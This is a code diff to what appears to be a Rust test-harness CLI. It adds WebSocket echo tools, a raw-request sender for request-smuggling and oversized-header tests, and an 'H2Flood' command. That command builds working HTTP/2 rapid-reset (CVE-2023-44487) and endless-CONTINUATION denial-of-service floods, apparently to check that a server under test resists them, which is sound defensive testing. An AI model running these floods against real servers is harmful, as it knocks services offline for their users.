@@ -72,6 +72,43 @@ enum Cmd {
         #[arg(long, default_value = "/r")]
         prefix: String,
     },
+    /// A WebSocket echo server (tokio-tungstenite): every text message comes back as
+    /// `NAME: message`.
+    WsServer {
+        addr: SocketAddr,
+        #[arg(long, default_value = "server")]
+        name: String,
+    },
+    /// A WebSocket client: opens `ws://ADDR/`, sends `--messages` texts, checks each echo.
+    /// Prints `ws=ok messages=N served_by=NAME` or the failure.
+    WsClient {
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 10)]
+        messages: usize,
+    },
+    /// Sends raw bytes (`\r` and `\n` escapes understood), optionally a header of `--big-header`
+    /// bytes before the final blank line, then reads until the peer closes or `--wait-ms`.
+    /// Prints `status=CODE|none closed=true|false after_ms=N served_by=NAME|none`.
+    Raw {
+        addr: SocketAddr,
+        #[arg(long)]
+        send: String,
+        #[arg(long, default_value_t = 0)]
+        big_header: usize,
+        #[arg(long, default_value_t = 5000)]
+        wait_ms: u64,
+    },
+    /// An HTTP/2 attacker on one connection: `rapid-reset` opens and cancels `--count` streams
+    /// (CVE-2023-44487); `continuation` sends one HEADERS and `--count` CONTINUATION frames that
+    /// never end it. Prints `goaway=CODE` or `closed` (or `open` if the server took it all) and
+    /// `after_ms`.
+    H2Flood {
+        addr: SocketAddr,
+        #[arg(long)]
+        kind: String,
+        #[arg(long, default_value_t = 5000)]
+        count: usize,
+    },
     /// Runs a program inside the pod (a real client: curl, h2load).
     Exec {
         #[arg(trailing_var_arg = true, allow_hyphen_values = true, required = true)]
@@ -152,6 +189,15 @@ fn main() -> ExitCode {
         } => report(http_server(addr, name, Duration::from_millis(delay_ms))),
         Cmd::GreetServer { addr, name } => report(greet_server(addr, &name)),
         Cmd::AwaitGreeting { addr } => report(await_greeting(addr)),
+        Cmd::Raw {
+            addr,
+            send,
+            big_header,
+            wait_ms,
+        } => report(raw(addr, &send, big_header, Duration::from_millis(wait_ms))),
+        Cmd::H2Flood { addr, kind, count } => report(h2_flood(addr, &kind, count)),
+        Cmd::WsServer { addr, name } => report(ws_server(addr, name)),
+        Cmd::WsClient { addr, messages } => report(ws_client(addr, messages)),
         Cmd::H2Load {
             addr,
             requests,
@@ -205,8 +251,17 @@ fn http_server(addr: SocketAddr, name: String, delay: Duration) -> std::io::Resu
             let name = name.clone();
             tokio::spawn(async move {
                 let svc = hyper::service::service_fn(
-                    move |_req: hyper::Request<hyper::body::Incoming>| {
+                    move |req: hyper::Request<hyper::body::Incoming>| {
                         let name = name.clone();
+                        // How the request was framed when it reached the server (the smuggling
+                        // test): one way only, whatever the client sent.
+                        let framing = if req.headers().contains_key("content-length") {
+                            "content-length"
+                        } else if req.headers().contains_key("transfer-encoding") {
+                            "chunked"
+                        } else {
+                            "none"
+                        };
                         async move {
                             if !delay.is_zero() {
                                 tokio::time::sleep(delay).await;
@@ -217,6 +272,10 @@ fn http_server(addr: SocketAddr, name: String, delay: Duration) -> std::io::Resu
                             if let Ok(v) = name.parse() {
                                 resp.headers_mut().insert("x-served-by", v);
                             }
+                            resp.headers_mut().insert(
+                                "x-framing",
+                                hyper::header::HeaderValue::from_static(framing),
+                            );
                             Ok::<_, std::convert::Infallible>(resp)
                         }
                     },
@@ -298,6 +357,200 @@ fn h2_load(
         let ok: u32 = served.values().sum();
         let list: Vec<String> = served.iter().map(|(k, v)| format!("{k}:{v}")).collect();
         Ok(format!("ok={ok} errors={errors} served={}", list.join(",")))
+    })
+}
+
+fn raw(addr: SocketAddr, send: &str, big_header: usize, wait: Duration) -> std::io::Result<String> {
+    let mut bytes = send.replace("\\r", "\r").replace("\\n", "\n").into_bytes();
+    if big_header > 0 {
+        // before the blank line that ends the header section
+        let at = bytes.len().saturating_sub(2);
+        let mut h = b"x-big: ".to_vec();
+        h.resize(7 + big_header, b'a');
+        h.extend_from_slice(b"\r\n");
+        bytes.splice(at..at, h);
+    }
+    let start = std::time::Instant::now();
+    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
+    // A big request may be refused before it is all written: keep what the server said.
+    let _ = s.write_all(&bytes);
+    s.set_read_timeout(Some(Duration::from_millis(100)))?;
+    let mut got = Vec::new();
+    let mut buf = [0u8; 4096];
+    let closed = loop {
+        match s.read(&mut buf) {
+            Ok(0) => break true,
+            Ok(n) => got.extend_from_slice(&buf[..n]),
+            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => break true,
+            Err(_) => {}
+        }
+        if start.elapsed() > wait {
+            break false;
+        }
+    };
+    let text = String::from_utf8_lossy(&got);
+    let status = text
+        .lines()
+        .next()
+        .and_then(|l| l.split_whitespace().nth(1))
+        .unwrap_or("none")
+        .to_string();
+    let header = |name: &str| {
+        text.lines()
+            .find_map(|l| l.strip_prefix(name))
+            .unwrap_or("none")
+            .to_string()
+    };
+    Ok(format!(
+        "status={status} closed={closed} after_ms={} served_by={} framing={}",
+        start.elapsed().as_millis(),
+        header("x-served-by: "),
+        header("x-framing: "),
+    ))
+}
+
+fn h2_flood(addr: SocketAddr, kind: &str, count: usize) -> std::io::Result<String> {
+    fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+        let len = payload.len() as u32;
+        out.extend_from_slice(&len.to_be_bytes()[1..]);
+        out.push(kind);
+        out.push(flags);
+        out.extend_from_slice(&stream.to_be_bytes());
+        out.extend_from_slice(payload);
+    }
+    const HEADERS: u8 = 1;
+    const RST_STREAM: u8 = 3;
+    const SETTINGS: u8 = 4;
+    const GOAWAY: u8 = 7;
+    const CONTINUATION: u8 = 9;
+    // :method GET, :scheme http, :path /, :authority x (HPACK static indexes and one literal)
+    let block = [0x82u8, 0x86, 0x84, 0x41, 0x01, b'x'];
+    let start = std::time::Instant::now();
+    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
+    s.set_nodelay(true)?;
+    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    frame(&mut out, SETTINGS, 0, 0, &[]);
+    frame(&mut out, SETTINGS, 1, 0, &[]);
+    s.write_all(&out)?;
+    out.clear();
+    match kind {
+        "rapid-reset" => {
+            for i in 0..count as u32 {
+                let id = 2 * i + 1;
+                frame(&mut out, HEADERS, 0x5, id, &block);
+                frame(&mut out, RST_STREAM, 0, id, &8u32.to_be_bytes());
+            }
+        }
+        "continuation" => {
+            frame(&mut out, HEADERS, 0, 1, &block);
+            // a literal header (new name) per frame: 0x00, name, value
+            let mut lit = vec![0x00, 3, b'x', b'-', b'a', 100];
+            lit.resize(lit.len() + 100, b'a');
+            for _ in 0..count {
+                frame(&mut out, CONTINUATION, 0, 1, &lit);
+            }
+        }
+        other => return Err(std::io::Error::other(format!("unknown flood {other:?}"))),
+    }
+    // Written from a thread: the server may stop reading, and its GOAWAY must still be seen.
+    let mut w = s.try_clone()?;
+    std::thread::spawn(move || {
+        let _ = w.write_all(&out);
+    });
+    s.set_read_timeout(Some(Duration::from_secs(10)))?;
+    let mut head = [0u8; 9];
+    loop {
+        if let Err(e) = s.read_exact(&mut head) {
+            let outcome = if e.kind() == std::io::ErrorKind::WouldBlock
+                || e.kind() == std::io::ErrorKind::TimedOut
+            {
+                "open"
+            } else {
+                "closed"
+            };
+            return Ok(format!(
+                "{outcome} after_ms={}",
+                start.elapsed().as_millis()
+            ));
+        }
+        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
+        let mut payload = vec![0u8; len];
+        s.read_exact(&mut payload)?;
+        if head[3] == GOAWAY && payload.len() >= 8 {
+            let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
+            return Ok(format!(
+                "goaway={code} after_ms={}",
+                start.elapsed().as_millis()
+            ));
+        }
+    }
+}
+
+fn ws_server(addr: SocketAddr, name: String) -> std::io::Result<String> {
+    use futures_util::{SinkExt, StreamExt};
+    use tokio_tungstenite::tungstenite::Message;
+    let rt = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(1)
+        .enable_all()
+        .build()?;
+    rt.block_on(async move {
+        let listener = tokio::net::TcpListener::bind(addr).await?;
+        println!("listening on {addr}");
+        loop {
+            let (stream, _) = listener.accept().await?;
+            let name = name.clone();
+            tokio::spawn(async move {
+                let Ok(mut ws) = tokio_tungstenite::accept_async(stream).await else {
+                    return;
+                };
+                while let Some(Ok(msg)) = ws.next().await {
+                    let reply = match msg {
+                        Message::Text(t) => Message::text(format!("{name}: {t}")),
+                        Message::Close(_) => break,
+                        other => other,
+                    };
+                    if ws.send(reply).await.is_err() {
+                        break;
+                    }
+                }
+            });
+        }
+    })
+}
+
+fn ws_client(addr: SocketAddr, messages: usize) -> std::io::Result<String> {
+    use futures_util::{SinkExt, StreamExt};
+    use tokio_tungstenite::tungstenite::Message;
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()?;
+    rt.block_on(async move {
+        let (mut ws, resp) = tokio_tungstenite::connect_async(format!("ws://{addr}/chat"))
+            .await
+            .map_err(std::io::Error::other)?;
+        let status = resp.status().as_u16();
+        let mut served_by = String::new();
+        for i in 0..messages {
+            let text = format!("message {i}");
+            ws.send(Message::text(text.clone()))
+                .await
+                .map_err(std::io::Error::other)?;
+            let back = tokio::time::timeout(Duration::from_secs(5), ws.next())
+                .await
+                .map_err(|_| std::io::Error::other("no echo within 5 s"))?
+                .ok_or_else(|| std::io::Error::other("closed before the echo"))?
+                .map_err(std::io::Error::other)?;
+            let back = back.into_text().map_err(std::io::Error::other)?.to_string();
+            let (who, said) = back.split_once(": ").unwrap_or(("", back.as_str()));
+            if said != text {
+                return Err(std::io::Error::other(format!("echo mismatch: {back:?}")));
+            }
+            served_by = who.to_string();
+        }
+        let _ = ws.close(None).await;
+        Ok(format!(
+            "ws=ok status={status} messages={messages} served_by={served_by}"
+        ))
     })
 }
 
